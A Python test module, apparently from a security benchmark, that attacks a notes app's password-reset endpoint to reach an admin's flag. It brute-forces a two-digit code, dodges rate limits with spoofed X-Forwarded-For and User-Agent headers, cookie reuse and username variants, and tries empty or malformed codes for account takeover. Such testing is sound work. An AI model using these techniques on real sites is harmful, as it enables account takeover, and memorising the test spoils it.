"""The wordings of the attack on the code that changes a password."""

from __future__ import annotations

from collections.abc import Iterator

from .notes import NotesTarget, notes
from .variants import bob_of

# More tries than any sensible limit allows.
_TRIES = 10


def counts(target: NotesTarget) -> Iterator[bool]:
    """Try wrong codes, then the right one, and no codes. Each has an app of its own."""
    for wording in (
        "nothing differs", "all differs", "first cookie", "new visitors", "names", "by turns",
    ):  # fmt: skip
        with notes(target.kind) as other:
            yield _captures(other, _try_codes(other, wording))
    with notes(target.kind) as other:
        yield _captures(other, _try_elsewhere(other))
    for code in (None, "", "0", "-1", "x"):
        with notes(target.kind) as other:
            yield _takes_over(other, code)


def _try_codes(target: NotesTarget, wording: str) -> Iterator[str]:
    """Yield the passwords that the app took."""
    admin, right = target.admin, target.facts.code
    wrong = [f"{(int(right) + each) % 100:02}" for each in range(1, _TRIES + 1)]
    alike = (f" {admin}", f"{admin} ", admin.upper(), admin.title())
    last = [(each, right) for each in (alike if wording == "names" else (admin,))]
    cookies: dict[str, str] = {}
    for number, (name, code) in enumerate([(admin, each) for each in wrong] + last):
        password = "mine" if wording == "nothing differs" else f"mine {number}"
        me = target.log_in() if wording == "new visitors" else target.browser()
        if wording == "all differs":
            me.headers.update({"User-Agent": password, "X-Forwarded-For": f"10.0.0.{number}"})
        form = {"userName": name, "code": code, "password": password}
        if wording == "by turns":
            me.post(f"{target.url}/password", data={**form, "userName": "nobody"})
        if me.post(f"{target.url}/password", data=form, cookies=cookies).ok:
            yield password
        if wording == "first cookie":
            cookies = cookies or dict(me.cookies)


def _try_elsewhere(target: NotesTarget) -> Iterator[str]:
    """Look for the code under other names, then use it; yield the password."""
    for number in range(100):
        form = {"userName": f"n{number // 3}", "code": f"{number:02}", "password": "mine"}
        if target.browser().post(f"{target.url}/password", data=form).ok:
            me = target.browser()
            me.post(f"{target.url}/password", data={**form, "userName": target.admin})
            yield "mine"


def _takes_over(target: NotesTarget, code: str | None) -> bool:
    """Return whether a code that nobody has opens the admin's account, or a visitor's."""
    bob = bob_of(target)
    for name, text in ((target.admin, target.facts.flag), (bob.name, bob.text)):
        me = target.browser()
        form = {"userName": name, "password": "mine"}
        sent = form if code is None else {**form, "code": code}
        me.post(f"{target.url}/password", data=sent)
        if text in me.get(f"{target.url}/notes").text:  # the refusal has logged us in
            return True
        me.post(f"{target.url}/login", data=form)
        if text in me.get(f"{target.url}/notes").text:
            return True
    return False


def _captures(target: NotesTarget, passwords: Iterator[str]) -> bool:
    """Return whether one of the passwords that the app took opens the admin's notes."""
    for password in dict.fromkeys(passwords):
        me = target.browser()
        form = {"userName": target.admin, "password": password}
        me.post(f"{target.url}/login", data=form)
        if target.facts.flag in me.get(f"{target.url}/notes").text:
            return True
    return False
